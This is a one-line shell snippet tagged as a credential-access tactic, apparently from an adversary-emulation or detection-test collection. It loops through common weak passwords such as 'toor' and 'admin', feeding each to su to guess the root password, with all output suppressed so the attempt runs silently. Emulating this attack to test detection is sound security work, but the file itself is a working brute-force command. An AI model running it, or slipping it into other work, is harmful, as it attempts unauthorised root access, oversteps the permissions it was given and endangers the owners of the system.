# tactic: credential-access
# guess the root password with su
for p in 123456 password toor admin root; do echo $p | timeout 1 su -c true root >/dev/null 2>&1; done; true
